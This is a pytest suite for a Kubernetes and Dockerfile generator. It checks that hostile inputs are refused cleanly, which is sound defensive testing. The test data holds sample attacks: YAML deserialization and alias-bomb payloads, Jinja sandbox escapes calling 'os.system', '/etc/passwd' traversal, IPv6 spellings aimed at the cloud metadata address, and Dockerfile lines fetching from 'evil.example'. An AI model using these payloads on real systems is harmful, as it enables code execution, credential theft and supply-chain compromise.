"""Hostile values, round two: every refusal is located, and the output folder stays as it was.

Each case starts from a project that rendered once, spoils one input file, and runs the
real command line: exit 1, `file:line:col: key: message`, no traceback, out/ unchanged.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import ROOT, run_cgen

LOCK = ROOT / "examples" / "shop" / "images.lock"
SHIPPED = ROOT / "profiles"
BASE = """apiVersion: cgen/v1
kind: Service
metadata:
  name: api
  namespace: shop
spec:
  runtime: python
  image: registry.example.com/shop/api:1.0.0@sha256:{digest}
  ports: [{name: http, port: 8080}]
""".replace("{digest}", "ab" * 32)
# file:line:col: key: message -- the shape every refusal here must have.
LOCATED = re.compile(r"^error: (?P<file>[^:\s]+):(?P<line>\d+):(?P<col>\d+): (?P<key>\S+): ", re.M)


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below folder, cgen's state included, by relative path."""
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() or p.is_symlink()
    }


def rendered_project(tmp_path: Path, config: str = "profiles: own\n") -> Path:
    """A project with its own profiles folder, rendered once so out/ has content to protect."""
    folder = tmp_path / "proj"
    folder.mkdir()
    shutil.copy(LOCK, folder / "images.lock")
    (folder / "api.yaml").write_text(BASE, encoding="utf-8")
    (folder / "cgen.yaml").write_text(config, encoding="utf-8")
    own = folder / "own"
    (own / "seccomp").mkdir(parents=True)
    shutil.copy(SHIPPED / "python.yaml", own / "python.yaml")
    shutil.copy(SHIPPED / "seccomp" / "capabilities.yaml", own / "seccomp" / "capabilities.yaml")
    run_cgen(["render", "."], cwd=folder, check=True)
    return folder


def refused(project: Path, file: str, *needles: str) -> subprocess.CompletedProcess[str]:
    """Render must fail with a located message naming file and needles, and write nothing."""
    before = snapshot(project / "out")
    proc = run_cgen(["render", "."], cwd=project)
    text = proc.stdout + proc.stderr
    assert proc.returncode == 1, text
    assert "Traceback" not in text and "internal error" not in text, text
    match = LOCATED.search(proc.stderr)
    assert match, text
    assert match["file"] == file, text
    for needle in needles:
        assert needle in proc.stderr, text
    assert snapshot(project / "out") == before
    return proc


# -- class 6: every exception a parser can raise is a located error ------------------------

BAD_YAML = [
    ("  replicas: !!float 'x'\n", "spec.replicas: invalid YAML: 'x' is not a valid !!float"),
    ("  replicas: !!int 'x'\n", "spec.replicas: invalid YAML: 'x' is not a valid !!int"),
    ("  replicas: !!bool 'x'\n", "spec.replicas: invalid YAML: 'x' is not a valid !!bool"),
    ("  replicas: !!timestamp 'x'\n", "spec.replicas: must be a whole number"),
    ("  replicas: !!binary 'AAAA'\n", "spec.replicas: the tag !!binary is not supported"),
    ("  replicas: !!python/object:os.system x\n", "spec.replicas: the tag !!python/object"),
    ("  replicas: !!int " + "9" * 5000 + "\n", "spec.replicas: invalid YAML"),
    ("  labels: {a: 'b\x01c'}\n", "spec.labels.a: invalid YAML: the control character U+0001"),
    ("  labels:\n    a\x1fb: c\n", "spec.labels.a_b: invalid YAML: the control character U+001F"),
    ("  replicas: " + "[" * 300 + "]" * 300 + "\n", "spec.replicas[0][0]"),
    ("  labels: " + "{a: " * 200 + "1" + "}" * 200 + "\n", "spec.labels.a.a.a"),
    ("  x:\n" + "".join("  " * (i + 2) + f"k{i}:\n" for i in range(120)), "spec.x.k0.k1"),
    ("  replicas: &x [*x]\n", "spec.replicas[0]: invalid YAML: an alias refers to a node"),
    ("  labels: &x {a: *x}\n", "spec.labels.a: invalid YAML: an alias refers to a node"),
    (
        "  a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n"
        + "".join(
            f"  {n}: &{n} [{', '.join([f'*{p}'] * 10)}]\n"
            for p, n in zip("abcd", "bcde", strict=True)
        ),
        "invalid YAML: more than 100000 values",
    ),
]


@pytest.mark.parametrize(("extra", "needle"), BAD_YAML, ids=range(len(BAD_YAML)))
def test_parser_failures_in_a_manifest_are_located(tmp_path: Path, extra: str, needle: str) -> None:
    project = rendered_project(tmp_path)
    (project / "api.yaml").write_text(BASE + extra, encoding="utf-8")
    refused(project, "api.yaml", needle)


@pytest.mark.parametrize(
    ("file", "edit", "needle"),
    [
        ("cgen.yaml", lambda t: t + "namespace: 'sh\x01op'\n", "namespace: invalid YAML"),
        ("cgen.yaml", lambda t: t + "namespace: !!int 'x'\n", "namespace: invalid YAML"),
        ("images.lock", lambda t: t.replace("version: 1", "version: \x02"), "version: invalid"),
        ("images.lock", lambda t: t.replace("version: 1", "version: !!float z"), "version: inv"),
        ("own/python.yaml", lambda t: t.replace("user: 65532", "user: 6\x0c"), "user: invalid"),
        ("own/python.yaml", lambda t: t.replace("user: 65532", "user: !!int u"), "user: invalid"),
        (
            "own/seccomp/capabilities.yaml",
            lambda t: t + "NEW_CAP: [\x7f]\n",
            "NEW_CAP[0]: invalid YAML: the control character U+007F",
        ),
        (
            "own/seccomp/capabilities.yaml",
            lambda t: t + "NEW_CAP: " + "[" * 100 + "]" * 100 + "\n",
            "NEW_CAP[0]",
        ),
    ],
)
def test_parser_failures_in_every_file_cgen_reads_are_located(
    tmp_path: Path, file: str, edit: object, needle: str
) -> None:
    project = rendered_project(tmp_path)
    path = project / file
    assert callable(edit)
    path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    refused(project, file, needle)


def test_the_public_api_raises_located_errors_for_parser_failures(tmp_path: Path) -> None:
    import generator
    from generator.errors import ManifestError

    project = rendered_project(tmp_path)
    (project / "api.yaml").write_text(BASE + "  replicas: !!float 'x'\n", encoding="utf-8")
    with pytest.raises(ManifestError) as caught:
        generator.validate([project])
    problems = caught.value.problems
    assert [(p.location.line, p.location.column, p.keypath) for p in problems] == [
        (10, 13, "spec.replicas")
    ]


# -- class 4: address spellings are normalized before every containment check ---------------


def _with_dependency(project: Path, cidr: str) -> None:
    extra = f"  dependencies: [{{cidr: '{cidr}', ports: [443]}}]\n"
    (project / "api.yaml").write_text(BASE + extra, encoding="utf-8")


@pytest.mark.parametrize(
    ("config", "cidr", "needle"),
    [
        ("", "::ffff:169.254.169.254/128", "(that is 169.254.169.254/32) is 169.254.169.254/32"),
        ("", "::ffff:a9fe:a9fe/128", "(that is 169.254.169.254/32) is 169.254.169.254/32"),
        ("podCidrs: [10.0.0.0/8]\n", "::ffff:10.1.0.0/112", "lies inside 10.0.0.0/8 (podCidrs"),
        ("serviceCidrs: ['::ffff:10.96.0.0/108']\n", "10.96.0.0/16", "(serviceCidrs in"),
        ("", "fe80::%eth0/128", "has a scope id"),
    ],
)
def test_mapped_ipv6_spellings_cannot_reach_excluded_networks(
    tmp_path: Path, config: str, cidr: str, needle: str
) -> None:
    project = rendered_project(tmp_path, "profiles: own\n" + config)
    _with_dependency(project, cidr)
    refused(project, "api.yaml", "spec.dependencies[0].cidr: ", needle)


@pytest.mark.parametrize(
    ("cidr", "block", "excepts"),
    [
        ("::ffff:0.0.0.0/96", "0.0.0.0/0", ["169.254.169.254/32", "10.0.0.0/8"]),
        ("::ffff:169.254.0.0/112", "169.254.0.0/16", ["169.254.169.254/32"]),
        ("::FFFF:0:0/97", "0.0.0.0/1", ["10.0.0.0/8"]),
    ],
)
def test_mapped_ipv6_egress_is_written_as_ipv4_with_the_exclusions(
    tmp_path: Path, cidr: str, block: str, excepts: list[str]
) -> None:
    import yaml

    project = rendered_project(tmp_path, "profiles: own\npodCidrs: ['::ffff:10.0.0.0/104']\n")
    _with_dependency(project, cidr)
    run_cgen(["render", "."], cwd=project, check=True)
    policy = yaml.safe_load((project / "out/shop/api/networkpolicy.yaml").read_text())
    blocks = [to["ipBlock"] for rule in policy["spec"]["egress"] for to in rule["to"]]
    assert {"cidr": block, "except": excepts} in blocks


def test_mapped_ipv6_ingress_keeps_the_cluster_excepts(tmp_path: Path) -> None:
    import yaml

    project = rendered_project(tmp_path, "profiles: own\npodCidrs: [10.0.0.0/8]\n")
    extra = "  ingress: [{from: {cidr: '::ffff:0.0.0.0/96'}, ports: [http]}]\n"
    (project / "api.yaml").write_text(BASE + extra, encoding="utf-8")
    run_cgen(["render", "."], cwd=project, check=True)
    policy = yaml.safe_load((project / "out/shop/api/networkpolicy.yaml").read_text())
    blocks = [peer["ipBlock"] for rule in policy["spec"]["ingress"] for peer in rule["from"]]
    assert blocks == [{"cidr": "0.0.0.0/0", "except": ["10.0.0.0/8"]}]
    bad = "  ingress: [{from: {cidr: 10.0.0.0/8, except: ['::ffff:10.0.0.0/104']}, ports: [http]}]"
    (project / "api.yaml").write_text(BASE + bad + "\n", encoding="utf-8")
    refused(project, "api.yaml", "is not strictly inside 10.0.0.0/8")


def test_cidr_helper_normalizes_and_compares() -> None:
    from generator.network import cidr

    assert cidr.canonical("::ffff:169.254.169.254/128") == "169.254.169.254/32"
    assert cidr.canonical("::ffff:0.0.0.0/96") == "0.0.0.0/0"
    assert cidr.canonical("2001:DB8:0::/48") == "2001:db8::/48"
    assert cidr.canonical("::/0") == "::/0"  # all of IPv6 stays IPv6
    assert cidr.within("::ffff:169.254.169.254/128", "169.254.0.0/16")
    assert cidr.within("10.0.0.0/8", "10.0.0.0/8")
    assert not cidr.strictly_within("10.0.0.0/8", "::ffff:10.0.0.0/104")
    assert cidr.strictly_within("169.254.169.254/32", "::ffff:0:0/96")
    assert not cidr.within("fd00:ec2::254/128", "0.0.0.0/0")
    assert cidr.overlaps("::ffff:10.0.0.0/104", "10.1.0.0/16")
    assert not cidr.overlaps("10.0.0.0/8", "fc00::/7")
    assert str(cidr.address_network("::ffff:10.0.0.10")) == "10.0.0.10/32"
    for bad in ("fe80::1%eth0/128", " 10.0.0.0/8", "010.0.0.0/8", "10.0.0.0/33", "x"):
        with pytest.raises(cidr.CidrError):
            cidr.network(bad)


def test_explain_sees_through_mapped_spellings(tmp_path: Path) -> None:
    project = rendered_project(tmp_path)
    _with_dependency(project, "0.0.0.0/0")
    proc = run_cgen(["explain", "shop/api", "[::ffff:169.254.169.254]:443", "."], cwd=project)
    assert proc.returncode == 3, proc.stdout + proc.stderr
    assert "169.254.169.254/32 is excluded (egressExcept)" in proc.stdout


# -- class 2: a project's own template runs in a sandbox and its output is checked ----------

EXTENDS = '{% extends "base.Dockerfile.j2" %}\n{% block build %}\n'
HOSTILE_TEMPLATES = [
    (EXTENDS + "RUN echo {{ ''.__class__.__mro__ }}\n{% endblock %}\n", 3, "'__class__'"),
    (
        EXTENDS + "RUN {{ cycler.__init__.__globals__.os.system('id') }}\n{% endblock %}\n",
        3,
        "'__init__'",
    ),
    (EXTENDS + "RUN {{ joiner.__call__.__globals__ }}\n{% endblock %}\n", 3, "unsafe"),
    (EXTENDS + "RUN {{ self._TemplateReference__context }}\n{% endblock %}\n", 3, "unsafe"),
    (EXTENDS + "RUN {{ range.__self__ }}\n{% endblock %}\n", 3, "has no attribute"),
    (EXTENDS + "RUN echo {{ 'x' * 100000000 }}\n{% endblock %}\n", 3, "product too large"),
    (EXTENDS + "RUN echo {{ ((2 ** 64) ** 64) ** 64 }}\n{% endblock %}\n", 3, "power too large"),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}\n", 1, "RecursionError"),
    ("{{ lipsum(100000000) }}\n", 1, "'lipsum' is undefined"),
    ("{{ no_such_value }}\n", 1, "'no_such_value' is undefined"),
    ('{% extends "../../../etc/passwd" %}\n', 1, "'../../../etc/passwd' not found"),
    ('{% include "/etc/hostname" %}\n', 1, "'/etc/hostname' not found"),
    pytest.param(
        "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
        1,
        "took longer than 10 seconds",
        marks=pytest.mark.slow,  # waits out the 10 s limit
    ),
    (
        "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}",
        1,
        "'namespace' is undefined",
    ),
    (
        "{% set a = 'x' * 1000000 %}{{ " + " ~ ".join(["a"] * 3000) + " }}",
        1,
        "needed more than 512 MiB to render",
    ),
    ("{{ ('x' * 100000) * 100000 }}", 1, "product too large"),
    ("{{ 'x' * 1000000 + 'y' * 1000000 }}", 1, "sum too large"),
]


def _with_template(project: Path, text: str) -> None:
    folder = project / "own" / "templates"
    folder.mkdir(exist_ok=True)
    (folder / "python.Dockerfile.j2").write_text(text, encoding="utf-8")


@pytest.mark.parametrize(("text", "line", "needle"), HOSTILE_TEMPLATES)
def test_a_hostile_template_cannot_run_code(
    tmp_path: Path, text: str, line: int, needle: str
) -> None:
    project = rendered_project(tmp_path)
    marker = tmp_path / "pwned"
    _with_template(project, text.replace("'id'", f"'touch {marker}'"))
    proc = refused(project, "own/templates/python.Dockerfile.j2", "template: ", needle)
    assert f"own/templates/python.Dockerfile.j2:{line}:" in proc.stderr
    assert not marker.exists()


HARDENING = [
    ("FROM {{ runtime_image }}\nCOPY --from=evil/x:1 /a /a\nUSER 1:1\n", 2, "COPY: reads from"),
    (
        "FROM {{ runtime_image }}\nRUN --mount=type=bind,from=evil/x,target=/m true\nUSER 1:1\n",
        2,
        "RUN: reads from 'evil/x'",
    ),
    ("FROM {{ runtime_image }}\nUSER 0\n", 2, "USER: '0' in the final stage"),
    ("FROM {{ runtime_image }}\nUSER root\n", 2, "USER: 'root' in the final stage"),
    ("FROM {{ runtime_image }}\nUSER 65532:0\n", 2, "USER: '65532:0' in the final stage"),
    ("FROM {{ runtime_image }} AS r\nUSER 65532:65532\nUSER \\\n  0\n", 3, "USER: '0'"),
    ("FROM {{ runtime_image }}\n", 1, "USER: the final stage sets no numeric USER"),
    ("FROM evil.example/x:1\nUSER 1:1\n", 1, "FROM: uses 'evil.example/x:1'"),
    ("FROM {{ runtime_image.split('@')[0] }}\nUSER 1:1\n", 1, "FROM: uses 'gcr.io/distroless"),
    ("FROM --platform=$BUILDPLATFORM ${BASE}\nUSER 1:1\n", 1, "FROM: uses '${BASE}'"),
    ("FROM {{ runtime_image }}\nADD https://evil.example/x /x\nUSER 1:1\n", 2, "ADD: fetches"),
    ("FROM {{ runtime_image }}\nADD git@github.com:a/b /x\nUSER 1:1\n", 2, "ADD: fetches"),
    ("FROM {{ runtime_image }}\nRUN --security=insecure id\nUSER 1:1\n", 2, "RUN: lifts"),
    ("# syntax=evil/frontend:1\nFROM {{ runtime_image }}\nUSER 1:1\n", 1, "syntax: names"),
    ("# escape=`\nFROM {{ runtime_image }}\nUSER 1:1\n", 1, "escape: must not change"),
    ("FROM {{ runtime_image }}\nRUN echo '\x01'\nUSER 1:1\n", 2, "RUN: holds the control"),
    ("FROM {{ runtime_image }}\nRUN echo {{ '%c' % 27 }}\nUSER 1:1\n", 2, "U+001B"),
    ("FROM {{ runtime_image }}\nLABEL a={{ '\\u202e' }}\nUSER 1:1\n", 2, "U+202E"),
]


@pytest.mark.parametrize(("text", "line", "needle"), HARDENING)
def test_template_output_is_checked_like_any_dockerfile_line(
    tmp_path: Path, text: str, line: int, needle: str
) -> None:
    project = rendered_project(tmp_path)
    _with_template(project, text)
    proc = refused(project, "own/templates/python.Dockerfile.j2", needle)
    assert f"own/templates/python.Dockerfile.j2:{line}:1: " in proc.stderr
    assert 'rendered for service "api"' in proc.stderr


def test_a_template_that_follows_the_hardening_renders(tmp_path: Path) -> None:
    project = rendered_project(tmp_path)
    text = (
        "# syntax=docker/dockerfile:1.7\nFROM {{ build_image }} AS build\n"
        "RUN <<EOF\nUSER root\nEOF\nFROM {{ runtime_image }}\n"
        "COPY --from=build /app /app\nUSER {{ uid }}:{{ uid }}\n"
        "ENTRYPOINT {{ entrypoint_json }}\n"
    )
    _with_template(project, text)
    run_cgen(["render", "."], cwd=project, check=True)
    written = (project / "out" / "shop" / "api" / "Dockerfile").read_text()
    assert "USER 65532:65532\n" in written and "RUN <<EOF\nUSER root\nEOF\n" in written


# -- class 5: values Kubernetes (or the kubelet, or runc) would refuse are refused at load -----

LONG = "a" * 64


def _in_metadata(extra: str) -> str:
    return BASE.replace("  namespace: shop\n", f"  namespace: shop\n{extra}")


REFUSED_VALUES = [
    (_in_metadata(f"  labels: {{{LONG}: x}}\n"), f"metadata.labels.{LONG}: key", "name part"),
    (_in_metadata(f"  labels: {{example.com/{LONG}: x}}\n"), "metadata.labels.", "name part"),
    (_in_metadata(f"  labels: {{{'b' * 254}/x: x}}\n"), "metadata.labels.", "at most 253"),
    (_in_metadata("  labels: {a: " + LONG + "}\n"), "metadata.labels.a:", "at most 63"),
    (BASE.replace("name: api", "name: 1api"), "metadata.name:", "start with a letter"),
    (
        BASE.replace("name: api", f"name: {'s' * 53}")
        + "  storage: [{name: data, mountPath: /data, size: 1Gi}]\n",
        "metadata.name:",
        "names a StatefulSet, so it must be at most 52",
    ),
    (
        BASE.replace("name: api", f"name: {'c' * 53}").replace(
            "  ports: [{name: http, port: 8080}]\n", ""
        )
        + "  job: {schedule: '0 * * * *'}\n",
        "metadata.name:",
        "names a CronJob, so it must be at most 52",
    ),
    (BASE + "  writablePaths: [/proc]\n", "spec.writablePaths[0]:", "must not be /proc"),
    (BASE + "  writablePaths: [/proc/sys/net]\n", "spec.writablePaths[0]:", "/proc or below"),
    (BASE + "  writablePaths: [/sys]\n", "spec.writablePaths[0]:", "must not be /sys"),
    (BASE + "  writablePaths: [/sys/fs/cgroup]\n", "spec.writablePaths[0]:", "/sys or below"),
    (BASE + "  writablePaths: [/dev]\n", "spec.writablePaths[0]:", "must not be /dev"),
    (BASE + "  writablePaths: [/dev/shm]\n", "spec.writablePaths[0]:", "already mounts"),
    (BASE + "  writablePaths: [/etc]\n", "spec.writablePaths[0]:", "must not be /etc"),
    (BASE + "  writablePaths: [/etc/resolv.conf]\n", "spec.writablePaths[0]:", "kubelet"),
    (BASE + "  writablePaths: [/]\n", "spec.writablePaths[0]:", "below /"),
    (BASE + "  writablePaths: [/tmp/../proc]\n", "spec.writablePaths[0]:", "normalized"),
    (
        BASE + "  secrets: [{secret: s, mountPath: /var/run/secrets/kubernetes.io/x}]\n",
        "spec.secrets[0].mountPath:",
        "kubelet",
    ),
    (BASE + "  secrets: [{secret: s, mountPath: /dev/s}]\n", "spec.secrets[0].mountPath:", "/dev"),
    (
        BASE + f"  dependencies: [{{host: {LONG}.example.com, cidrs: [1.2.3.4/32], ports: [1]}}]\n",
        "spec.dependencies[0].host:",
        "at most 63",
    ),
    (
        BASE + "  resources: {requests: {memory: 1Gi}, limits: {memory: 512Mi}}\n",
        "spec.resources.requests.memory:",
        "more than the limit 512Mi",
    ),
    (
        BASE + "  resources: {requests: {cpu: '2'}, limits: {cpu: 1500m}}\n",
        "spec.resources.requests.cpu:",
        "more than the limit",
    ),
    (
        BASE + "  resources: {requests: {memory: 1Gi}}\n",
        "spec.resources.requests.memory:",
        "request 1Gi is more than the limit 256Mi (the python profile gives the other",
    ),
    (
        BASE + "  resources: {limits: {cpu: 10m}}\n",
        "spec.resources.limits.cpu:",
        "request 100m is more than the limit 10m",
    ),
]


@pytest.mark.parametrize(("manifest", "key", "needle"), REFUSED_VALUES)
def test_values_kubernetes_would_refuse_are_located_errors(
    tmp_path: Path, manifest: str, key: str, needle: str
) -> None:
    project = rendered_project(tmp_path)
    (project / "api.yaml").write_text(manifest, encoding="utf-8")
    refused(project, "api.yaml", key, needle)


@pytest.mark.parametrize(
    ("prefix", "needle"),
    [
        ("a/../b", "without '.', '..' or empty parts"),
        ("cgen/..", "is not a relative path"),
        ("../x", "is not a relative path"),
        ("a//b", "without '.', '..' or empty parts"),
        ("a/./b", "without '.', '..' or empty parts"),
    ],
)
def test_a_seccomp_prefix_cannot_leave_the_kubelet_folder(
    tmp_path: Path, prefix: str, needle: str
) -> None:
    project = rendered_project(tmp_path)
    config = f"profiles: own\nseccomp: {{localhostPrefix: '{prefix}'}}\n"
    (project / "cgen.yaml").write_text(config, encoding="utf-8")
    refused(project, "cgen.yaml", "seccomp.localhostPrefix: ", needle)


def test_values_at_the_limits_are_accepted(tmp_path: Path) -> None:
    project = rendered_project(tmp_path)
    manifest = _in_metadata(f"  labels: {{{'p' * 253}/{'n' * 63}: {'v' * 63}}}\n") + (
        "  writablePaths: [/tmp, /var/cache/app, /devices, /etc-app]\n"
        "  resources: {requests: {cpu: 500m, memory: 512Mi}, limits: {cpu: '0.5', memory: 512Mi}}\n"
    )
    (project / "api.yaml").write_text(manifest, encoding="utf-8")
    run_cgen(["render", "."], cwd=project, check=True)


def test_an_unreadable_template_is_a_located_error(tmp_path: Path) -> None:
    project = rendered_project(tmp_path)
    _with_template(project, "")
    (project / "own" / "templates" / "python.Dockerfile.j2").write_bytes(b"FROM x\n\xff\n")
    refused(project, "own/templates/python.Dockerfile.j2", "template: is not UTF-8 text")
